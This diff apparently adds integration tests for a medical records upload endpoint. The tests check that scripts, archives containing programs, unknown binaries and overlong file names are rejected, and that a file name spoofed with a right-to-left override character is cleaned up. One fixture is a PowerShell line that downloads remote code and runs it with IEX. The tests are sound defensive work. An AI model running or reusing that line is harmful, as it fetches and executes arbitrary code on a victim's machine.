@@ -780,6 +780,84 @@ class CaseLoopIntegrationTests {
     }
 
     @Nested
+    class Uploads {
+
+        @Test
+        void a_hostile_file_is_a_400_naming_the_problem_and_nothing_is_stored() {
+            // given
+            Created c = caseOpened();
+            String path = "/api/v1/cases/" + c.id() + "/records";
+            String patient = api.token(PATIENT);
+
+            // when
+            Response script = api.upload(patient, path, "notes.txt", FileFixtures.utf8(
+                    "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://example.invalid/a')"),
+                    Map.of("category", "CLINICAL_NOTE"));
+            Response archive = api.upload(patient, path, "records.zip", FileFixtures.zip("setup/install.exe",
+                    FileFixtures.windowsExecutable()), Map.of("category", "OTHER"));
+            Response unknown = api.upload(patient, path, "scan.pdf", new byte[] {0x13, 0x37, 0x00, 0x42, 0x7f},
+                    Map.of("category", "OTHER"));
+
+            // then
+            assertProblem(script, 400);
+            assertThat(script.json().get("detail").asString()).isEqualTo(
+                    "this file is a script (PowerShell); programs and scripts cannot be uploaded");
+            assertThat(errorFields(script)).containsExactly("file");
+            assertProblem(archive, 400);
+            assertThat(archive.json().get("detail").asString())
+                    .startsWith("the archive holds a program (Windows executable): setup/install.exe");
+            assertProblem(unknown, 400);
+            assertThat(unknown.json().get("detail").asString()).contains("could not be recognised from its content");
+            assertThat(recordCount(c.id())).isEqualTo(1);
+        }
+
+        @Test
+        void a_pdf_named_like_a_program_is_stored_as_a_pdf() {
+            // given
+            Created c = caseOpened();
+            byte[] pdf = FileFixtures.pdf("Discharge summary");
+
+            // when
+            Response uploaded = api.upload(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records",
+                    "summary\u202Efdp.exe", pdf, Map.of("category", "DISCHARGE_SUMMARY"));
+
+            // then
+            assertThat(uploaded.status()).as("%s", uploaded).isEqualTo(201);
+            assertThat(uploaded.json().get("contentType").asString()).isEqualTo("application/pdf");
+            assertThat(uploaded.json().get("filename").asString()).isEqualTo("summaryfdp.pdf");
+            Response content = api.get(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records/"
+                    + uploaded.json().get("id").asString() + "/content");
+            assertThat(content.header("Content-Disposition")).get().asString().contains("summaryfdp.pdf");
+        }
+
+        @Test
+        void a_file_name_longer_than_255_characters_is_a_400_saying_so_however_long_it_is() {
+            // given
+            Created c = caseOpened();
+            String path = "/api/v1/cases/" + c.id() + "/records";
+            String patient = api.token(PATIENT);
+
+            // when
+            Response longest = api.upload(patient, path, "n".repeat(251) + ".pdf", FileFixtures.pdf("a"),
+                    Map.of("category", "OTHER"));
+            Response tooLong = api.upload(patient, path, "n".repeat(252) + ".pdf", FileFixtures.pdf("b"),
+                    Map.of("category", "OTHER"));
+            Response farTooLong = api.upload(patient, path, "n".repeat(20_000) + ".pdf", FileFixtures.pdf("c"),
+                    Map.of("category", "OTHER"));
+
+            // then
+            assertThat(longest.status()).as("%s", longest).isEqualTo(201);
+            for (Response refused : List.of(tooLong, farTooLong)) {
+                assertProblem(refused, 400);
+                assertThat(refused.json().get("detail").asString())
+                        .isEqualTo("the file name is too long (at most 255 characters)");
+                assertThat(errorFields(refused)).containsExactly("file");
+            }
+            assertThat(recordCount(c.id())).isEqualTo(2);
+        }
+    }
+
+    @Nested
     class Operations {
 
         @Test
